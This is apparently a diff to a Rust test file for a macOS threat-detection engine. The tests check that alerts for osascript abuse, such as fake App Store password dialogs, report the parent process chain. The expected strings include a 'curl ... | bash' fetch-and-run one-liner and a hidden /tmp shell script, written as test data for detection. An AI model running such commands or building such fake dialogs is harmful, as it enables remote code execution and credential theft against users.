@@ -115,6 +115,10 @@ fn an1359_osascript_abuse_from_process_events() {
     for (file, branch, parent) in cases {
         let alerts = run("ecs", &data(file), None);
         let a = one(&alerts, "AN1359", branch, parent, OSA);
+        assert!(
+            a["reason"].as_str().unwrap().contains("process chain: "),
+            "{a}"
+        );
         assert_eq!(a["attack"]["analytic"], "AN1359");
         assert_eq!(a["attack"]["strategy"], "DET0493");
         println!("{file}: {}", a["reason"]);
@@ -189,7 +193,14 @@ fn an1359_eslogger_parent_from_lineage() {
         &data("an1359-eslogger-credential-prompt.json"),
         None,
     );
-    one(&alerts, "AN1359", "credential-prompt", "/bin/bash", OSA);
+    let a = one(&alerts, "AN1359", "credential-prompt", "/bin/bash", OSA);
+    // The parent's own command line comes from its exec too: the reason shows the chain.
+    assert!(
+        a["reason"].as_str().unwrap().contains(
+            "/bin/bash (pid 6400: /bin/bash /tmp/.i.sh) -> /usr/bin/osascript (pid 6401: "
+        ),
+        "{a}"
+    );
 }
 
 #[test]
@@ -358,5 +369,22 @@ fn coverage_reports_the_unified_log_branches_missing_from_process_events() {
             .iter()
             .any(|l| l.contains("DC0035") && l.contains("provided by unifiedlog")),
         "{lines:#?}"
+    );
+}
+
+#[test]
+fn reasons_show_the_parent_command_line() {
+    // The fake dialog's parent is the shell a `curl | bash` one-liner started: the reason says so.
+    let alerts = run(
+        "ecs",
+        &data("an1359-fake-appstore-password-dialog.ndjson"),
+        None,
+    );
+    let reason = alerts[0]["reason"].as_str().unwrap();
+    assert!(
+        reason.contains(
+            "/bin/bash (pid 4200: /bin/bash -c curl -fsSL https://cdn.example.net/i.sh | bash) -> /usr/bin/osascript (pid 4201: osascript -e display dialog"
+        ),
+        "{reason}"
     );
 }
